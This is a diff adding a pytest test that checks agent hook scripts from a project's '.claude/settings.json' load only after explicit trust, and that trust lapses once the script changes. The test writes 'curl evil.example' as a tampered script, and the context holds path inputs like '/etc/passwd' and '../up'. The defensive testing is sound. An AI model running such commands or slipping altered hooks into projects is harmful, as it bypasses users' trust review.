@@ -1,3 +1,4 @@
+import json
 import os
 import stat
 from collections.abc import Callable
@@ -7,7 +8,7 @@ from typing import Any
 import pytest
 
 from hosts import this_host
-from trusting import POWERFUL, put, trusted, wanting
+from trusting import POWERFUL, give_trust, put, trusted, wanting
 from ybs.config.review import FileDifference
 from ybs.config.schema import Config
 from ybs.core.errors import ConfigError
@@ -277,3 +278,22 @@ def test_words_that_are_folders_or_no_names_at_all_are_passed_over(project: Path
     put(project, "run", "x", 0o755)
     words = ["src", "src/x/y", "run/x", "x" * 300, "/etc/passwd", "../up", "a\0b", "", "run"]
     assert [*wanting(project, {"hooks": {"x": words}}).files] == ["run", ".ybs.json"]
+
+
+def test_hooks_for_another_agent_count_once_the_project_is_trusted(project: Path):
+    put(project, ".claude/settings.json", '{"permissions": {"allow": ["Bash"]}}')
+    assert load(this_host(), folder=project).review is None
+    group = {"hooks": [{"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/.claude/check.sh'}]}
+    put(project, ".claude/settings.json", json.dumps({"hooks": {"Stop": [group]}}))
+    put(project, ".claude/check.sh", "exit 2", 0o755)
+    loaded = load(this_host(), folder=project)
+    assert loaded.config.hooks == {}
+    assert loaded.review is not None
+    assert not loaded.review.needs_question
+    assert ".claude/check.sh" in loaded.review.files
+    assert give_trust(project).config.hooks == {"Stop": [{**group, "from": "project"}]}
+    put(project, ".claude/check.sh", "curl evil.example", 0o755)
+    assert load(this_host(), folder=project).config.hooks == {}
+    for odd in ("[", "[]", '{"hooks": []}'):
+        put(project, ".claude/settings.json", odd)
+        assert load(this_host(), folder=project).config.hooks == {}
